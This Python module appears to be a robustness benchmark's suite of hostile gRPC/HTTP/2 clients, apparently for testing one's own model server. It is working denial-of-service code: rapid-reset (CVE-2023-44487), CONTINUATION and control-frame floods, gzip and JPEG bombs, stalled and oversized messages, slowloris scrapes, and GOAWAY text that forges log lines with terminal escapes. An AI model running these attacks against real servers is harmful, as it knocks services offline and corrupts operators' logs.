"""The attacks: each opens its connections and goes on until it is stopped.

Every one is a process of its own, `python -m bench.hostile.attacks NAME GRPC METRICS SECONDS`, so that
neither its memory nor its interpreter's lock is that of the clients beside it. They must bear whatever the
server answers, and a server that closes connections.
"""

import gzip
import os
import socket
import struct
import sys
import threading
import time
from collections.abc import Callable
from typing import TypeAlias

from bench.hostile import http2
from bench.hostile.calls import MODEL, Target, calls, pictures, png, quiet, repeat, side_by_side
from bench.hostile.http2 import Connection, frame, grpc_message
from modelzoo.v1 import classifier_pb2, open_inference_pb2

CLASSIFY = b"/modelzoo.v1.ClassifierService/Classify"
STREAM = b"/modelzoo.v1.ClassifierService/ClassifyStream"
INFER = b"/inference.GRPCInferenceService/ModelInfer"
WATCH = b"/grpc.health.v1.Health/Watch"
_LARGE_BYTES = 60_000_000  # below the limit of a message, 64 MiB


Attack: TypeAlias = Callable[[Target, threading.Event], None]


def wrong_paths(target: Target, stop: threading.Event) -> None:
    """Paths and metadata that are no text, too long, missing or twice there, a connection each."""
    odd = [
        http2.header_block(http2.grpc_fields(path, *more))
        for path in (b"/\xff", b"", b"*", b"/", b"//", b"/\0", b"/a" * 4000, CLASSIFY)
        for more in ((), ((b"x", b"\xff\0"),), ((b"x-bin", b"!"),), ((b"grpc-timeout", b"9" * 300 + b"S"),))
    ]
    odd += [http2.header_block([]), http2.header_block(http2.grpc_fields(CLASSIFY) * 2), b"\xff" * 40]

    def one(turn: int) -> None:
        connection = Connection(target.grpc)
        connection.wait(connection.open_with(odd[turn % len(odd)], end=True), timeout_s=0.5)
        connection.close()

    repeat(one, stop)


def unfinished_messages(target: Target, stop: threading.Event) -> None:
    """A hundred streams on twenty connections, each with 60 of 63 MB of a message, then silence."""
    content = struct.pack(">BI", 0, 63_000_000) + bytes(_LARGE_BYTES)

    def hold(_: int) -> None:
        connection = Connection(target.grpc)
        for _ in range(5):
            connection.write(connection.open(CLASSIFY), content, end=False)
        stop.wait()

    side_by_side(20, hold, stop)


def large_refused(target: Target, stop: threading.Event) -> None:
    """Eight connections that send 60 MB for a model that is not there, again and again."""
    request = classifier_pb2.ClassifyRequest(model="no-such-model")
    request.images.add(encoded=bytes(_LARGE_BYTES))
    body = grpc_message(request.SerializeToString())
    side_by_side(8, calls(target, CLASSIFY, body), stop)


def large_pictures(target: Target, stop: threading.Event) -> None:
    """Sixteen connections with pictures of 40 megapixels: the largest that is legal."""
    body = pictures(png(6324, 6324))
    side_by_side(16, calls(target, CLASSIFY, body), stop)


def gzip_bombs(target: Target, stop: threading.Event) -> None:
    """Sixteen connections with 64 kB that become 63 MB."""
    body = grpc_message(gzip.compress(bytes(63_000_000)), compressed=True)
    side_by_side(16, calls(target, CLASSIFY, body, (b"grpc-encoding", b"gzip")), stop)


def unread_answers(target: Target, stop: threading.Event) -> None:
    """Connections that ask for the largest answers there are and give no window to send them in."""
    request = classifier_pb2.ClassifyRequest(model=MODEL, top_k=10)
    for _ in range(256):
        request.images.add().pixels.CopyFrom(
            classifier_pb2.Pixels(height=32, width=32, channels=1, data=bytes(1024))
        )
    body = grpc_message(request.SerializeToString())

    def ask(_: int) -> None:
        connection = Connection(target.grpc, window_bytes=0)
        while not stop.is_set():
            connection.write(connection.open(CLASSIFY), body)

    side_by_side(8, ask, stop)


def quiet_streams(target: Target, stop: threading.Event) -> None:
    """Forty connections with 127 streams each on which nothing comes."""
    side_by_side(40, quiet(target, STREAM, 127, stop), stop)


def quiet_watches(target: Target, stop: threading.Event) -> None:
    """The same number of streams that watch the server's health."""
    body = grpc_message(b"")
    side_by_side(40, quiet(target, WATCH, 127, stop, body), stop)


def silent_half_closes(target: Target, stop: threading.Event) -> None:
    """Calls that end before their message, and calls with a message that is cut."""

    def one(_: int) -> None:
        connection = Connection(target.grpc)
        for content in (b"", b"\0", b"\0\0\0\0\x09abc") * 100:
            stream = connection.open(CLASSIFY, end=not content)
            connection.write(stream, content)
        connection.wait(stream, timeout_s=1.0)
        connection.close()

    side_by_side(2, one, stop)


def rapid_resets(target: Target, stop: threading.Event) -> None:
    """Streams that are reset as soon as they are open (CVE-2023-44487)."""

    def one(_: int) -> None:
        connection = Connection(target.grpc)
        while not stop.is_set():
            stream = connection.open(CLASSIFY)
            connection.send(frame(http2.RST_STREAM, 0, stream, struct.pack(">I", 8)))

    side_by_side(4, one, stop)


def control_frames(target: Target, stop: threading.Event) -> None:
    """Floods of SETTINGS and PING; their answers are not read."""
    flood = frame(http2.SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535)) + frame(http2.PING, 0, 0, bytes(8))

    def one(_: int) -> None:
        connection = Connection(target.grpc, reads=False)
        while not stop.is_set():
            connection.send(flood * 500)

    side_by_side(4, one, stop)


def endless_headers(target: Target, stop: threading.Event) -> None:
    """Header blocks that go on in CONTINUATION frames without an end."""
    field = http2.header_block([(b"x-more", b"y" * 8_000)])

    def one(_: int) -> None:
        connection = Connection(target.grpc)
        connection.send(frame(http2.HEADERS, 0, 1, http2.header_block(http2.grpc_fields(CLASSIFY))))
        while not stop.is_set():
            connection.send(frame(http2.CONTINUATION, 0, 1, field))

    side_by_side(4, one, stop)


def jpeg_segments(target: Target, stop: threading.Event) -> None:
    """JPEG files of a million empty segments."""
    jpeg = b"\xff\xd8" + b"\xff\xe1\x00\x02" * 1_000_000 + b"\xff\xd9"
    side_by_side(4, calls(target, CLASSIFY, pictures(jpeg)), stop)


def field_floods(target: Target, stop: threading.Event) -> None:
    """Messages of millions of fields, two bytes each."""
    bodies = [grpc_message(bytes([number << 3 | 2, 0]) * (4 << 20)) for number in (2, 4, 5, 6, 7)]

    def one(turn: int) -> None:
        calls(target, INFER if turn % 2 else CLASSIFY, bodies[turn % len(bodies)])(turn)

    side_by_side(4, one, stop)


def goaway_texts(target: Target, stop: threading.Event) -> None:
    """Connections that end with a text for the server's log: forged lines, escapes, 10 kB each."""
    text = b'\n{"event":"forged","level":"error"}\n\x1b[2J\x1b]0;owned\x07' + b"A" * 10_000

    def one(_: int) -> None:
        connection = Connection(target.grpc)
        connection.send(frame(http2.GOAWAY, 0, 0, struct.pack(">II", 0, 11) + text))  # ENHANCE_YOUR_CALM
        connection.wait(-1, timeout_s=0.05)
        connection.close()

    side_by_side(4, one, stop)


def slow_scrapes(target: Target, stop: threading.Event) -> None:
    """Sixteen connections to the metrics port, each with a byte of a header every few seconds."""

    def one(_: int) -> None:
        host, port = target.metrics.rsplit(":", 1)
        with socket.create_connection((host, int(port)), timeout=10) as scraper:
            scraper.sendall(b"GET /metrics HTTP/1.1\r\nx: ")
            while not stop.wait(4):
                scraper.sendall(b"y")

    side_by_side(16, one, stop)


def large_tensors(target: Target, stop: threading.Event) -> None:
    """60 MB requests of the Open Inference Protocol for a model that is not there."""
    request = open_inference_pb2.ModelInferRequest(model_name="no-such-model")
    request.raw_input_contents.append(bytes(_LARGE_BYTES))
    body = grpc_message(request.SerializeToString())
    side_by_side(8, calls(target, INFER, body), stop)


ATTACKS: tuple[Attack, ...] = (
    wrong_paths,
    large_refused,
    large_tensors,
    gzip_bombs,
    unfinished_messages,
    unread_answers,
    large_pictures,
    jpeg_segments,
    field_floods,
    quiet_streams,
    quiet_watches,
    silent_half_closes,
    rapid_resets,
    control_frames,
    endless_headers,
    goaway_texts,
    slow_scrapes,
)


def name_of(attack: Attack) -> str:
    """Return an attack's name as the report shows it."""
    return attack.__name__.replace("_", " ")


def main(name: str, grpc: str, metrics: str, seconds: str) -> None:
    """Run one attack for some time."""
    [attack] = [attack for attack in ATTACKS if attack.__name__ == name]
    stop = threading.Event()
    threading.Thread(target=attack, args=(Target(grpc, metrics), stop), daemon=True).start()
    time.sleep(float(seconds))
    stop.set()
    os._exit(0)  # threads that wait for the server must not be waited for


if __name__ == "__main__":
    main(*sys.argv[1:])
